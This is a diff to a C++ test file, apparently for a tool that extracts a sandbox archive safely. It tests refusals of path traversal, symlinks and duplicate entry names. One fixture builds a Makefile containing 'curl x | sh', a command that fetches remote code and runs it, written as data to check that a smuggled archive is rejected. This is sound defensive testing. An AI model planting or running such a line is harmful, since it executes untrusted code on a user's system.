@@ -414,25 +414,47 @@ TEST_F(CrossingTest, AbsoluteTargetsAndDotDotAtTheTopAreRefused) {
 // crossing brings twice in different kinds could be a link by the time the kernel looks.
 TEST_F(CrossingTest, DotDotOutOfSomethingThatIsNotAFolderIsRefused) {
   AtomicWrite(dest + "/file", "x", 0644);
-  // The links that go through "twice" and "case" come first: what stands there is not known
-  // until the archive's later entries are written, in an order and with refusals of their own.
+  // The link that goes through "case" comes first: what stands there is not known until the
+  // archive's later entries are written, in an order and with refusals of their own.
   CrossingReport r = Cross(TarBuilder()
-                               .Add("use-twice", '2', 0777, "", "twice/x")
                                .Add("use-case", '2', 0777, "", "case/x")
                                .Add("missing", '2', 0777, "", "nope/../file")
                                .Add("through-file", '2', 0777, "", "file/../file")
-                               .Add("twice", '2', 0777, "", "file")
-                               .Add("twice/", '5', 0755)
                                .Add("new/dir/", '5', 0755)
                                .Add("fine", '2', 0777, "", "new/dir/../dir")
                                .Add("Case", '2', 0777, "", "file")
                                .Add("case/", '5', 0755)
                                .Done());
   std::vector<std::string> refused = Refused(r);
-  for (const char* bad : {"use-twice", "use-case", "missing", "through-file"}) {
+  for (const char* bad : {"use-case", "missing", "through-file"}) {
     EXPECT_NE(std::find(refused.begin(), refused.end(), bad), refused.end()) << bad;
   }
   EXPECT_EQ(std::find(refused.begin(), refused.end(), "fine"), refused.end());
+}
+
+TEST_F(CrossingTest, ANameGivenTwiceRefusesTheWholeArchive) {
+  // What was shown is the last entry of a name; the first would land and stay where the second
+  // is refused (a directory over a file). Nothing is written at all.
+  AtomicWrite(dest + "/Makefile", "all:\n\techo harmless\n", 0644);
+  for (const char* second : {"Makefile/", "Makefile", "./Makefile"}) {
+    TarBuilder t;
+    t.Add("before.txt", '0', 0644, "b\n").Add("Makefile", '0', 0644, "all:\n\tcurl x | sh\n");
+    if (std::string(second).ends_with("/")) {
+      t.Add(second, '5', 0755);
+    } else {
+      t.Add(second, '0', 0644, "all:\n\techo harmless\n");
+    }
+    try {
+      Cross(t.Done());
+      ADD_FAILURE() << "crossed: " << second;
+    } catch (const Error& e) {
+      EXPECT_EQ(e.code(), kExitRemote);
+      EXPECT_EQ(std::string(e.what()), "the sandbox's archive gives '" + std::string(second) +
+                                           "' more than once; nothing was written");
+    }
+    EXPECT_EQ(ReadFileIfExists(dest + "/Makefile"), "all:\n\techo harmless\n") << second;
+    EXPECT_FALSE(PathExists(dest + "/before.txt")) << second;
+  }
 }
 
 TEST_F(CrossingTest, GitFoldersNeverLandAndNoLinkLeadsIntoOne) {
